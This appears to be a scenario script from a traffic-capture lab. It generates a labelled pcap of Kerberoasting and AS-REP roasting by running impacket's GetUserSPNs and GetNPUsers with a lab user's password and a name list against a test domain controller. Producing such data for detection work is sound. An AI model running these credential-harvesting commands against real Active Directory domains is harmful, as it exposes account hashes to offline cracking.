# 10.60.0.66, with bob's password, asks for tickets of service accounts (Kerberoasting) and for data of
# accounts without pre-authentication (AS-REP roasting) with impacket.
topology=domain
file=domain-roast.pcap.gz
class=lateral
family=impacket-roast
rule=SRC:10.60.0.66:lateral

play() {
  domain_day 90
  sleep 20
  tool GetUserSPNs -k -request -dc-ip 10.60.0.10 corp.example/bob:Sommer-bob-7
  sleep 5
  tool GetNPUsers -k -request -dc-ip 10.60.0.10 corp.example/bob:Sommer-bob-7
  printf '%s\n' "${people[@]}" svc-scan >"$work/names"
  tool GetNPUsers -no-pass -usersfile "$work/names" -dc-ip 10.60.0.10 corp.example/
  sleep 15
}
